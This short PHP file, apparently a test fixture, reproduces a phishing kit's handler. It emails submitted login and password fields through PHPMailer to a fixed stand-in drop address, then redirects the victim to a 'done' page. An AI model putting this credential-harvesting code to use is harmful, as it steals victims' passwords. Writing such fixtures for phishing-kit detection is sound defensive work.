<?php
// a kit's handler sending the fields with a mailer object to a fixed address
// (written for the tests, never run)
require 'lib/PHPMailerAutoload.php';
$m = new PHPMailer();
$m->setFrom('no-reply@host.example');
$m->addAddress('results.box@mailbox.example');
$m->Subject = 'new';
$m->Body = "user: " . $_POST['login'] . "\npass: " . $_POST['pw'];
$m->send();
header('Location: done.html');
